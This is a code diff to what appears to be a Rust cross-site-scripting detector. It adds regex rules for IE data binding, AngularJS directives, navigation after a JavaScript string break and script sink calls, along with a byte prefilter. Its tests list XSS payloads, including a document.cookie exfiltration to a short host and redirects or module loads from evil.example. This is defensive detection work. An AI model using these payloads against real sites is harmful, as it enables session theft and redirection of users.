@@ -24,6 +24,8 @@ pub struct Xss {
     member_second: Vec<Vec<LitId>>,
     /// Names whose presence makes JS normalisation worth its allocation.
     js_gate: Vec<LitId>,
+    /// Bytes one of which every rule's pattern needs (see [`QUICK_BYTES`]).
+    quick: Vec<LitId>,
 }
 
 impl Xss {
@@ -69,8 +71,10 @@ impl Xss {
                     "datasrc",
                     "<xml",
                     "<layer",
+                    "dataformatas",
                 ],
-                r"<\?import\b|<\?xml:namespace\b|\+adw-\s*[a-z/!]|\bdatasrc\s*=|<\s*(?:xml|layer|ilayer)\s[^>]*\bsrc\s*=",
+                // `dataformatas="html"`: IE data binding renders the bound field as markup.
+                r"<\?import\b|<\?xml:namespace\b|\+adw-\s*[a-z/!]|\bdatasrc\s*=|\bdataformatas\s*=\s*['\x22]?\s*html|<\s*(?:xml|layer|ilayer)\s[^>]*\bsrc\s*=",
                 "legacy markup hiding script",
             ),
             Rule::new(
@@ -94,7 +98,9 @@ impl Xss {
                     "globalthis.",
                     "document.",
                 ],
-                r"\b(?:window|self|top|parent|frames|globalthis|document)\.(?:alert|prompt|confirm|eval|cookie|location|write|domain|open|\$|\\x24|settimeout|setinterval|fetch|importscripts)",
+                // `self.open`, `self.write`, `self.fetch` are Python methods: after `self`
+                // only names no Python class has.
+                r"\b(?:window|top|parent|frames|globalthis|document)\.(?:alert|prompt|confirm|eval|cookie|location|write|domain|open|\$|\\x24|settimeout|setinterval|fetch|importscripts)|\bself\.(?:alert|prompt|confirm|eval|cookie|location|domain|\$|\\x24|settimeout|setinterval|importscripts)\b",
                 "global object sink",
             ),
             Rule::new(
@@ -105,7 +111,8 @@ impl Xss {
             // Also gated on the names (see `SECOND_GATES`): `(` alone is in most values.
             Rule::new(
                 &["(", "`"],
-                r"(?:^|[^a-z0-9_.$])(?:alert|prompt|confirm|eval|settimeout|setinterval|execscript|fromcharcode|atob|btoa|expression|import)\s*(?:\(|`)|\bnew\s+function(?:\(|`)",
+                // `import(` loads a module from a string (`from x import (` is Python).
+                r"(?:^|[^a-z0-9_.$])(?:alert|prompt|confirm|eval|settimeout|setinterval|execscript|fromcharcode|atob|btoa|expression)\s*(?:\(|`)|(?:^|[^a-z0-9_.$])import\s*(?:\(\s*['`\x22]|`)|\bnew\s+function(?:\(|`)",
                 "script sink call",
             ),
             Rule::new(
@@ -125,6 +132,18 @@ impl Xss {
                 &["["],
                 r"\b(?:top|self|parent|frames|window|globalthis)\s*\[\s*['`\x22]",
                 GLOBAL_LOOKUP,
+            ),
+            // `x'};location.href='//evil';//`: a JS string closed, then a navigation.
+            Rule::new(
+                &["location"],
+                r#"['"`][\s)\]}]*[;+-]\s*(?:(?:window|self|top|document)\s*\.\s*)?location(?:\s*\.\s*(?:href|hash|search|pathname|replace|assign))?\s*(?:=|\()\s*['"`]?\s*(?:/{2}|[a-z][a-z0-9+.-]*:|(?:document|window|self|top|name|atob|unescape)\b)"#,
+                "navigation after a string break",
+            ),
+            // AngularJS evaluates these attributes as expressions (`ng-focus="$event.view…"`).
+            Rule::new(
+                &["ng-"],
+                r"<[a-z][^>]*\sng-(?:click|dblclick|focus|blur|mouse[a-z]+|key[a-z]+|change|submit|copy|cut|paste|init)\s*=",
+                "angular directive in markup",
             ),
             Rule::new(
                 &["binding", "behavio", "@import"],
@@ -158,6 +177,7 @@ impl Xss {
                 .iter()
                 .position(|r| r.reason == HANDLER)
                 .unwrap_or(usize::MAX),
+            quick: lits(QUICK_BYTES),
             rules_second: second(&rules),
             member_second: second(&member),
             rules,
@@ -285,6 +305,10 @@ impl Detector for Xss {
     }
 
     fn check(&self, leaf: &Leaf, present: &LitSet) -> Option<Finding> {
+        // No pass (JS-normalised, controls stripped) adds any of these bytes.
+        if !present.any(&self.quick) {
+            return None;
+        }
         let lower = leaf.lower.as_str();
         let js_syntax = || lower.bytes().any(|c| JS_PUNCT.contains(&c));
         if let Some((a, b, reason)) = self.first(lower, present, &js_syntax) {
@@ -351,6 +375,11 @@ const SECOND_GATES: &[(&str, &[&str])] = &[
 ];
 
 const HANDLER: &str = "event handler or script-url attribute";
+
+/// Every rule's pattern needs one of these bytes: a tag (`<`), an attribute or assignment
+/// (`=`), a call (`(`, `` ` ``), an index (`[`), a member (`.`), a scheme or style property
+/// (`:`), `@import`, `+ADw-`. A value with none of them (most data) skips every rule.
+const QUICK_BYTES: &[&str] = &["<", "=", "(", "`", "[", ".", ":", "@", "+"];
 
 /// The first rule of `rules` whose gates pass and whose pattern matches: its prefilter, then
 /// its second gate (`second[k]`), then `extra(k)`.
@@ -470,6 +499,14 @@ mod tests {
             "top[\"al\"+\"ert\"](1)",
             "window[`ev`+`al`](name)",
             "new Image().src='//e/?c='+document.cookie",
+            "x'};location.href='//evil.example';//",
+            "\";top.location='//evil.example/'+1;//",
+            "'-location.replace('//evil.example')-'",
+            "<input autofocus ng-focus=\"$event.view.alert(1)\">",
+            "<div datasrc=#x datafld=b dataformatas=html>",
+            "<p dataformatas='html' datafld=a>",
+            "import('//evil.example/x.js')",
+            "self.alert(1)",
         ] {
             assert!(hit(v), "{v}");
         }
@@ -528,6 +565,14 @@ mod tests {
             "moz",
             "help = 3",
             "a new function (in math)",
+            "from typing import (",
+            "self.open(path)",
+            "self.write(data); self.fetch(url)",
+            "f(\"x\", location=\"paris\")",
+            "location = 'paris'",
+            "\"city\"; location: paris",
+            "\"Meet at 8am\"; location = lobby",
+            "<div ng-app class=x>",
         ] {
             assert!(!hit(v), "{v}");
         }
